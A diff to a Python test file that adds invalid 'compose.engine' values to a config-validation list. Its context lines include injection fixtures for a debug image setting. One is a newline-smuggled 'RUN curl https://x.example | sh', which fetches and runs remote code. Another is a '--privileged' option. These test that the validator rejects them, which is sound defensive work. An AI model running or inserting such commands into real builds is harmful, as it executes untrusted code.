@@ -42,6 +42,10 @@ INVALID: list[tuple[str, Any, str]] = [
     ("logLevel", 3, "one of error"),
     ("logLevel", "verbose", "one of error"),
     ("logLevel", "warn", "one of error"),
+    ("compose.engine", "podman-compose", "one of auto"),
+    ("compose.engine", "Podman", "one of auto"),
+    ("compose.engine", "/usr/bin/podman", "one of auto"),
+    ("compose.engine", 1, "one of auto"),
     # images: a newline would write an extra instruction into Dockerfile.debug; options; shell syntax
     ("debugImage.toolsImage", "busybox:musl\nRUN curl https://x.example | sh", "image reference"),
     ("debugImage.toolsImage", "--privileged", "image reference"),
